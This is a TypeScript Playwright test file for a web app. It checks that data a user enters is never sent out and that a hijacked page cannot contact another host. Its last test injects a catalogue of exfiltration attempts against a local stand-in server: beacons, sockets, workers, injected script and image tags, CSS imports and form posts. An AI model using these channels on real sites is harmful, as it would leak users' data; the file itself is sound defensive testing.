import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page, Request } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { hasBrowser, startBrowser, type Browser } from '../browser/browser.ts'
import { drawsOf } from '../random-book.ts'
import { startServer, type RunningServer } from '../start-server.ts'

/** Somebody watches every request of the app, and a page that was taken over tries every way out. */

const SECRET = 'zebra-7f3a'
/** The same as it might be written into an address. */
const DISGUISES = [
  SECRET,
  ...[0, 1, 2].map((pad) =>
    Buffer.from(' '.repeat(pad) + SECRET)
      .toString('base64')
      .slice(pad + 1, -4),
  ),
]

let server: RunningServer
let browser: Browser
let elsewhere: Server
const arrived: string[] = []

beforeAll(async () => {
  if (!hasBrowser) return
  server = await startServer()
  browser = await startBrowser(server.url)
  elsewhere = createServer((request, response) => {
    arrived.push(`${request.method} ${request.url}`)
    response.setHeader('Access-Control-Allow-Origin', '*').end('ok')
  })
  await new Promise<void>((done) => elsewhere.listen(0, '127.0.0.1', done))
})
afterAll(async () => {
  if (!hasBrowser) return
  await browser.close()
  await server.stop()
  elsewhere.close()
})

/** What goes out of a page, workers and all, as lines of address, headers and body. */
function watch(page: Page): { readonly all: string[]; readonly methods: Set<string> } {
  const seen = { all: [] as string[], methods: new Set<string>() }
  page.context().on('request', (request: Request) => {
    if (/^(blob|data):/.test(request.url())) return
    seen.methods.add(request.method())
    seen.all.push([request.url(), JSON.stringify(request.headers()), request.postData() ?? ''].join('\n'))
  })
  return seen
}
const expectSilent = ({ all, methods }: ReturnType<typeof watch>): void => {
  for (const one of all) for (const disguise of DISGUISES) expect(one).not.toContain(disguise)
  expect([...methods].filter((method) => method !== 'GET')).toEqual([])
}

describe.skipIf(!hasBrowser)('what a reader enters', () => {
  it('as a list of parts goes into no request, on no page, nor when the page is loaded again', async () => {
    const { page } = await browser.open('/exposure')
    const seen = watch(page)
    await page
      .locator('input[type=file]')
      .first()
      .setInputFiles({
        name: `${SECRET}.csv`,
        mimeType: 'text/csv',
        buffer: Buffer.from(
          `part,material,place,supplier,kg_per_year,stock_days\n${SECRET},magnet-heavy,JPN,,500,30\n`,
        ),
      })
    await page.getByText(SECRET).first().waitFor()
    for (const link of await page.locator('nav a').all()) {
      await link.click().catch(() => undefined)
      await page.locator('main').first().waitFor()
    }
    await page.reload()
    await page.locator('main h1').first().waitFor()
    expectSilent(seen)
    // Nothing of it is left either.
    expect(
      await page.evaluate(() => JSON.stringify([localStorage, sessionStorage, document.cookie, location.href])),
    ).not.toContain(SECRET)
    await page.close()
  })

  it('in controls and in a scenario of their own goes into no request while the page is open', async () => {
    const { page } = await browser.open('/?scenario=jp-2026-practice~months=1&samples=0')
    await page.waitForSelector('.sure')
    const seen = watch(page)
    const seed = Number(process.env['LAW_SEED'] ?? 1)
    const draw = drawsOf(seed)
    for (const details of await page.locator('details').all())
      await details.evaluate((element) => element.setAttribute('open', ''))
    for (let step = 0; step < 12; step++) {
      const controls = await page.locator('main input:not([type=file]), main select').all()
      const control = controls[draw(0, controls.length - 1)]!
      const tried = [
        () => control.selectOption({ index: draw(0, 3) }, { timeout: 300 }),
        () => control.click({ timeout: 300 }),
        () => control.fill(String(draw(0, 9)), { timeout: 300 }),
      ]
      // What a control does not take is left.
      for (const one of tried) await one().catch(() => undefined)
    }
    await page.locator('textarea').first().fill(`title: ${SECRET}\nstart: 2026-01\nmonths: 1\nmeasures: []\n`)
    await page.getByRole('button', { name: 'Use this scenario' }).click()
    // It is asked, and stands in the address: it is there to be given away.
    await page.getByText(SECRET).first().waitFor()
    expect(DISGUISES.some((disguise) => page.url().includes(disguise))).toBe(true)
    await page.waitForTimeout(3000)
    expectSilent(seen)
    await page.close()
  })
})

describe.skipIf(!hasBrowser)('a page that was taken over', () => {
  it('reaches no other host: by no request, picture, script, style, frame, form, socket, worker or beacon', async () => {
    const { port } = elsewhere.address() as AddressInfo
    const out = `http://127.0.0.1:${port}/${SECRET}`
    // Plain requests do arrive there.
    await fetch(out)
    expect(arrived).toHaveLength(1)
    const { page } = await browser.open('/method')
    await page.locator('main h1').first().waitFor()
    await page.evaluate(async (url) => {
      const tries: (() => unknown)[] = [
        () => fetch(url, { mode: 'no-cors' }),
        () => navigator.sendBeacon(url, 'x'),
        () => new WebSocket(url.replace('http', 'ws')),
        () => new EventSource(url),
        () => new Worker(url),
        () => import(url),
        () => navigator.serviceWorker.register(url),
        () => {
          const request = new XMLHttpRequest()
          request.open('POST', url)
          request.send('x')
        },
        ...['img', 'script', 'iframe', 'embed', 'object', 'link', 'video', 'audio', 'source', 'track'].map(
          (tag) => () => {
            const element = document.createElement(tag)
            for (const name of ['src', 'data', 'href']) element.setAttribute(name, url)
            if (tag === 'link') element.setAttribute('rel', 'stylesheet')
            document.body.append(element)
          },
        ),
        ...['preload', 'prefetch', 'modulepreload', 'icon', 'manifest'].map((rel) => () => {
          const link = Object.assign(document.createElement('link'), { rel, href: url })
          if (rel === 'preload') link.as = 'image'
          document.head.append(link)
        }),
        () => {
          document.body.style.backgroundImage = `url(${url})`
        },
        () => {
          const style = document.createElement('style')
          style.textContent = `@import url(${url}); @font-face { font-family: x; src: url(${url}) } body { font-family: x }`
          document.head.append(style)
        },
        () => {
          const form = Object.assign(document.createElement('form'), { action: url, method: 'post' })
          document.body.append(form)
          form.submit()
        },
        () => Object.assign(document.createElement('base'), { href: url }),
      ]
      for (const one of tries) {
        try {
          await Promise.race([one(), new Promise((done) => setTimeout(done, 100))])
        } catch {
          // Refused.
        }
      }
    }, out)
    await page.waitForTimeout(1000)
    expect(arrived).toHaveLength(1)
    await page.close()
  })
})
